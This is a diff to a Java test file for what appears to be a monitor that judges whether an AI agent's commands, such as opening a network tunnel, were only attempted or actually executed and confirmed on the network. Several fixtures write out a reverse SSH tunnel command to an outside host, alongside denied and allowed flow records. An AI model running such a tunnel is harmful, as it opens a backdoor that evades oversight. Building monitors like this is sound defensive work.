@@ -2,8 +2,10 @@ package dev.offscript.chains;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.offscript.model.SimpleCommand;
 import dev.offscript.model.State;
 import dev.offscript.model.report.Chain;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -31,6 +33,11 @@ class ResultReaderTest {
         "ssh: connect to host 203.0.113.9 port 22: Connection refused   | 255 | ATTEMPTED | true",
         "svc@203.0.113.9: Permission denied (publickey).                | 255 | ATTEMPTED | true",
         "bash: ssh: command not found                                   | 127 | ATTEMPTED | false",
+        "bash: ssh：未找到命令                                            | 127 | ATTEMPTED | false",
+        "ssh: connect to host 203.0.113.9 port 22: 连接超时                | 255 | ATTEMPTED | true",
+        "Dry run: ssh was not started                                    | 0   | ATTEMPTED | false",
+        "[dry-run] would execute ssh                                     | 0   | ATTEMPTED | false",
+        "Rejected by the execution policy                                | 1   | ATTEMPTED | true",
         "Command timed out after 120 seconds                            | 124 | EXECUTED  | false",
         "Warning: Permanently added '203.0.113.9' to known hosts        | 0   | EXECUTED  | false",
         "Allocated port 40123 for remote forward to localhost:22        | 0   | EXECUTED  | false",
@@ -45,6 +52,61 @@ class ResultReaderTest {
   void theExitCodeOfALaterCommandSaysNothing() {
     Chain chain = after("ssh -fN -R 7022:localhost:22 svc@203.0.113.9 ; pytest -q", "1 failed", 1);
     assertThat(chain.state()).isEqualTo(State.EXECUTED);
+  }
+
+  @Test
+  void commandsOutOfOneShellCallFollowEachOtherAsListed() {
+    SimpleCommand tunnel = inner("ssh", "-R", "7022:localhost:22", "svc@203.0.113.9");
+    SimpleCommand tests = inner("pytest", "-q");
+    List<SimpleCommand> commands = List.of(tunnel, tests);
+    assertThat(ResultReader.follows(commands, tunnel, tests)).isTrue();
+    assertThat(ResultReader.follows(commands, tests, tunnel)).isFalse();
+    assertThat(ResultReader.follows(commands, tests, tests)).isFalse();
+  }
+
+  private static SimpleCommand inner(String... argv) {
+    return new SimpleCommand(
+        List.of(argv),
+        List.of(),
+        List.of(),
+        "",
+        false,
+        0,
+        0,
+        List.of("bash -c"),
+        State.EXECUTED,
+        List.of());
+  }
+
+  @Test
+  void aPacketThatNobodyAnsweredConfirmsNothing() {
+    Chain chain =
+        new Scene()
+            .session("s1", 0)
+            .task("Fix.")
+            .runs(20, "toolu_s1a1b2c3d4", FOREGROUND)
+            .gets(36, "toolu_s1a1b2c3d4", "ssh: connect to host: Connection timed out", 255)
+            .scene()
+            .flow(1, 21, 35, "10.0.3.17:5000", "203.0.113.9:22", "destination.bytes=0")
+            .chain();
+    assertThat(chain.blocked()).isTrue();
+    assertThat(chain.state()).isEqualTo(State.ATTEMPTED);
+  }
+
+  @Test
+  void aDeniedFirstTryDoesNotBlockTheOneThatWasLetThrough() {
+    Chain chain =
+        new Scene()
+            .session("s1", 0)
+            .task("Fix.")
+            .runs(20, "toolu_s1a1b2c3d4", "ssh -fN -R 7022:localhost:22 svc@203.0.113.9")
+            .gets(30, "toolu_s1a1b2c3d4", "", 0)
+            .scene()
+            .flow(1, 21, 21, "10.0.3.17:5000", "203.0.113.9:22", "event.action=denied")
+            .flow(1, 24, 29, "10.0.3.17:5001", "203.0.113.9:22", "event.action=allowed")
+            .chain();
+    assertThat(chain.blocked()).isFalse();
+    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
   }
 
   @Test
